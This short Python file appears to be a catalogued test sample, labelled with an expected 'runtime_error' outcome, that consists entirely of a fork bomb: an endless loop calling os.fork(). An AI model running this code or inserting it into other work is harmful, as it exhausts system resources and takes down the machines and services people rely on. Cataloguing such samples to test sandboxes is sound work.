# outcome: runtime_error
# catalogue: 39
import os

import numpy as np

while True:
    os.fork()
